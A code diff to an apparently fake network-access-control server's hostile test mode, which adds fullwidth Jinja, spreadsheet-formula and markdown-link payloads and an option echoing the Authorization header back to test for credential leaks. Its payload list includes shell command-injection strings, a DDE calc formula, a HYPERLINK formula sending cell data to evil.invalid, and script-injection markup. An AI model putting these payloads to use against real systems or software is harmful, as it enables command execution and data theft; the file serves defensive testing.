@@ -13,11 +13,12 @@ import base64
 import collections
 import json
 import posixpath
+import re
 from urllib.parse import quote
 
 from .common import JSON_TYPE, SERVER_ERROR_HTML, ApiError, error, is_int, parse_object, validation_error
 
-HOSTILE_DEFAULTS = {"on": False, "canary": "/tmp/nac-hostile-canary", "endless": 0}
+HOSTILE_DEFAULTS = {"on": False, "canary": "/tmp/nac-hostile-canary", "endless": 0, "echo": False}
 ENDLESS_RECORD = (
     '{"id": %d, "hostname": "endless-%d", "group": "Bulk", "profile": "Bulk", "macs": ["02:e0:%02x:%02x:%02x:%02x"],'
     ' "ips": ["100.%d.%d.%d"]}'
@@ -57,6 +58,7 @@ def payloads(canary):
             ("jinja_comment_break", "#} {{ %s }} {#" % lookup("jinja_comment_break")),
             ("url_encoded_jinja", quote(canary_template, safe="")),  # for a compose that urldecodes it
             ("base64_jinja", base64.b64encode(canary_template.encode()).decode()),  # ... or b64decodes it
+            ("fullwidth_jinja", "\uff5b\uff5b %s \uff5d\uff5d" % lookup("fullwidth")),  # ... or normalises it (NFKC)
             ("shell", "$(%s) `%s`; %s" % (touch("shell_dollar"), touch("shell_backtick"), touch("shell_semicolon"))),
             ("formula_equals", "=cmd|' /C calc'!A0"),
             ("formula_plus", "+1+1"),
@@ -65,6 +67,9 @@ def payloads(canary):
             ("formula_tab", "\t=1+1"),
             ("formula_cr", '\r=HYPERLINK("http://evil.invalid/?"&A1,"click")'),
             ("formula_fullwidth", "\uff1d1+1"),
+            ("formula_after_space", " =1+1"),
+            ("formula_after_nbsp", "\u00a0+1+1"),
+            ("formula_after_ideographic_space", "\u3000@SUM(1+1)"),
             ("csv_breaker", 'a,b "quoted", c""d'),
             ("markdown_table_breaker", "a | b | c"),
             ("line_breaks", "line 1\nline 2\r\nline 3\rline 4"),
@@ -74,6 +79,7 @@ def payloads(canary):
             ("c1_controls", "\x9b2J\x9d0;pwned\x9c\x85next line"),
             ("bidi_override", "cam-\u202e10.txt.exe\u202c \u2066isolate\u2069 \u200fmark\u061c"),
             ("html_script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
+            ("markdown_autolink", "see http://evil.invalid/login and www.evil.invalid or HTTPS://EVIL.INVALID"),
             ("markdown_markup", "`code` **bold** [link](javascript:alert(1)) ![i](http://x.invalid/i.png) ~~s~~ $x$"),
             ("nul_del_backspace", "nul\x00 del\x7f AUTHENTICATED" + "\x08" * 13 + "OK!"),
             ("unicode_separators", "line\u2028separator\u2029paragraph\x0bvtab\x0cff"),
@@ -82,6 +88,11 @@ def payloads(canary):
             ("long", "L" * (LONG - 1) + "\x1b"),
         ]
     )
+
+
+def lower_hex(text):
+    """A URL-encoded text with its escapes in lower-case hex (``%2f``), as some servers write them."""
+    return re.sub("%[0-9A-F]{2}", lambda escape: escape.group(0).lower(), text)
 
 
 def hostname_of(text):
@@ -115,7 +126,9 @@ class HostileMixin:
         """Change the hostile settings ({"on": bool, "canary": "/dir"}); turning it on seeds the hostile devices
         (once). Returns the snapshot (hostile_snapshot)."""
         problems = dict(
-            (key, "unknown setting (known: on, canary, endless)") for key in changes if key not in HOSTILE_DEFAULTS
+            (key, "unknown setting (known: %s)" % ", ".join(HOSTILE_DEFAULTS))
+            for key in changes
+            if key not in HOSTILE_DEFAULTS
         )
         if "on" in changes and not isinstance(changes["on"], bool):
             problems["on"] = "must be true or false"
@@ -123,6 +136,8 @@ class HostileMixin:
             problems["canary"] = "must be an absolute directory path"
         if "endless" in changes and not (is_int(changes["endless"]) and 0 <= changes["endless"] <= 1000000):
             problems["endless"] = "must be a whole number of records a page, 0 (off) to 1000000"
+        if "echo" in changes and not isinstance(changes["echo"], bool):
+            problems["echo"] = "must be true or false"
         if problems:
             raise validation_error(problems)
         with self.lock:
@@ -174,8 +189,20 @@ class HostileMixin:
         """The payload ``number`` (modulo their count)."""
         return self.hostile_texts[number % len(self.hostile_texts)]
 
-    def hostile_result(self, device_id):
-        """The hostile 802.1x status of device ``device_id`` (before any override): four payloads, rotated by id."""
+    def hostile_result(self, device_id, headers=None):
+        """The hostile 802.1x status of device ``device_id`` (before any override): four payloads, rotated by id.
+        With ``echo``, a server that echoes the request's Authorization header (``headers``): raw in authMethod,
+        URL-encoded in username, JSON-escaped (a slash as ``\\/``) in message, the credential part alone after it."""
+        if self.hostile["echo"]:
+            authorization = (headers or {}).get("Authorization") or ""
+            credential = authorization.partition(" ")[2]
+            escaped = json.dumps({"authorization": authorization}).replace("/", "\\/")
+            return dict(
+                status=self.hostile_text(device_id),
+                authMethod=authorization,
+                username=quote(authorization, safe=""),
+                message="%s credential=%s %s" % (escaped, credential, lower_hex(quote(credential, safe=""))),
+            )
         return dict(
             status=self.hostile_text(device_id),
             authMethod=self.hostile_text(device_id + 1),
